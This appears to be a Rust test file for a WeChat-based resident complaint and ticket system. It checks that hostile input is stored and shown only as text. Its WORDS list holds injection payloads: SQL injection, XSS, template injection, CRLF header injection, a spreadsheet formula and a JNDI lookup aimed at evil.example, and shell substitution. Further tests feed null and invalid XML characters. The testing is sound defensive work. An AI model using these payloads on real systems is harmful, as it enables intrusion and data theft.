//! Whatever a resident writes is words: for the parser, the database, the templates, the desk.

use crate::harness::{
    TestDatabase, on_both,
    rehearsal::{Rehearsal, said},
    site::{ORIGINAL_ID, TOKEN, TestSite, account, signed},
};
use lianxin::{simulator::Answer, ticket::lifecycle::Action, wechat::account::Mode};

const WORDS: [&str; 10] = [
    "路灯坏了 ]]> </Content></xml> ]]]]><![CDATA[>",
    "路灯坏了 {{ 7*7 }} {% for x in range(99999999) %}x{% endfor %} {{ self }} {# #}",
    "路灯坏了'; DROP TABLE ticket; -- \" OR 1=1 \\ %_",
    "=HYPERLINK(\"http://evil.example\",\"路灯坏了\")",
    "\u{202e}了坏灯路\u{202c}\u{2066}路灯坏了\u{200b}\u{feff}",
    "<script>alert('路灯坏了')</script><img src=x onerror=alert(1)>&lt;&amp;&#0;",
    "路灯坏了 ${jndi:ldap://evil.example/x} `id` $(id) %s%n {0}",
    "路灯坏了👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿e\u{301}\u{301}\u{301}\u{1f44d}\u{1f3fd}",
    "路灯坏了\r\n\r\n\tSet-Cookie: a=b\u{85}\u{2028}第二行",
    "LX260302000000 接单 办结 受理 LX999999999999 路灯坏了",
];

on_both![
    words_are_never_more_than_words,
    characters_that_xml_or_a_database_refuses_are_left_out_and_the_rest_is_kept,
    twenty_thousand_characters_are_answered_and_kept,
];

async fn words_are_never_more_than_words(database: &TestDatabase) {
    let rehearsal = Rehearsal::on(database).await;
    for (n, words) in WORDS.into_iter().enumerate() {
        let name = format!("居民{n}");
        let text = format!("{words}，王庄村东头");
        let delivery = rehearsal.does(&name, said(&text)).await;
        assert!(matches!(delivery.answers[0], Answer::Text(_)), "{words}: {:?}", delivery.answers);
        assert!(!delivery.text().unwrap().contains("49"), "{words}");
        // Wherever that led, a person gets through from there.
        for answer in ["0", "路灯坏了，王庄村东头", "1"] {
            let delivery = rehearsal.does(&name, said(answer)).await;
            assert!(delivery.text().is_some(), "{words}: {answer}: {:?}", delivery.answers);
        }
        rehearsal.settle().await;
    }
    // The plainest of them, all the way to the member and back.
    let words = WORDS[1];
    let ticket = rehearsal.reports("王大娘", &format!("{words}，王庄村东头")).await;
    assert!(ticket.report.text.contains("{{ 7*7 }}"), "{}", ticket.report.text);
    let ticket = rehearsal.desk(&ticket, Action::Accept).await.unwrap();
    let handler = rehearsal.member("张建国").await;
    rehearsal.does("张建国", said("我的任务")).await;
    let dispatch = Action::Dispatch {
        call: lianxin::ticket::Call {
            to: vec![handler],
            unit: None,
            reason: words.to_owned(),
            ..lianxin::ticket::Call::default()
        },
    };
    rehearsal.desk(&ticket, dispatch).await.unwrap();
    rehearsal.later(chrono::TimeDelta::minutes(1)).await;
    let notices = rehearsal.notices("张建国");
    assert!(notices.iter().any(|notice| notice.contains("{{ 7*7 }}")), "{notices:?}");
    let dead = rehearsal.app.store.dead_letters(9).await.unwrap();
    assert!(dead.iter().all(|letter| !letter.reason.contains("does not fit")), "{dead:?}");
}

async fn characters_that_xml_or_a_database_refuses_are_left_out_and_the_rest_is_kept(
    database: &TestDatabase,
) {
    let site = TestSite::serving(account(Mode::Plain), &database.store);
    let fields = [
        ("text", "<Content><![CDATA[@]]></Content>"),
        ("text", "<Content>@</Content><bizmsgmenuid>@</bizmsgmenuid>"),
        ("image", "<PicUrl>http://x/@</PicUrl><MediaId>m@</MediaId>"),
        ("voice", "<MediaId>m@</MediaId><Format>@</Format><Recognition>路灯坏了@</Recognition>"),
        (
            "location",
            "<Location_X>38.99</Location_X><Location_Y>116.1</Location_Y><Label>王庄@</Label>",
        ),
        ("link", "<Title>@路灯</Title><Description>@</Description><Url>http://x/@</Url>"),
        ("event", "<Event>CLICK</Event><EventKey>@</EventKey>"),
        ("event", "<Event>SCAN</Event><EventKey>area:@</EventKey><Ticket>@</Ticket>"),
        ("event", "<Event>subscribe</Event><EventKey>qrscene_@</EventKey><Ticket>@</Ticket>"),
        ("@", "<Content>@</Content>"),
    ];
    let mut id = 0;
    for hostile in
        ["\0", "a\0b\u{1}\u{b}\u{1f}", "\u{fffe}\u{ffff}", "&#9;", "路灯坏了\0，王庄村东头"]
    {
        for (kind, field) in fields {
            id += 1;
            let push = format!(
                "<xml><ToUserName>{ORIGINAL_ID}</ToUserName><FromUserName>o-{id}</FromUserName>\
                 <CreateTime>17724{id:05}</CreateTime><MsgType>{kind}</MsgType>{field}\
                 <MsgId>{id}</MsgId></xml>"
            )
            .replace('@', hostile);
            let (status, _) = site.push(&signed(TOKEN), push.clone()).await;
            assert!([200, 400].contains(&status), "{status}: {push:?}");
            // The same person is not shut out by it.
            let next = crate::harness::site::text(&format!("o-{id}"), 100_000 + id, "我的诉求");
            assert_eq!(site.push(&signed(TOKEN), next).await.0, 200, "{push:?}");
        }
    }
    for reference in ["&#0;", "&#xD800;", "&#x110000;", "&nobody;"] {
        let push = crate::harness::site::text("o-x", 1, "@").replace("<![CDATA[@]]>", reference);
        let (status, _) = site.push(&signed(TOKEN), push).await;
        assert!([200, 400].contains(&status), "{status}: {reference}");
    }
}

async fn twenty_thousand_characters_are_answered_and_kept(database: &TestDatabase) {
    let rehearsal = Rehearsal::on(database).await;
    for (n, letter) in ["x", "}{", " ", "王庄", "1"].into_iter().enumerate() {
        let name = format!("居民{n}");
        // As many as the platform's sealed form has room for here.
        let text = format!("路灯坏了，王庄村东头{}", letter.repeat(20_000 / letter.len()));
        let answer = rehearsal.says(&name, &text).await;
        assert!(answer.len() <= 2047, "{}", answer.len());
        rehearsal.says(&name, "1").await;
    }
    rehearsal.settle().await;
}
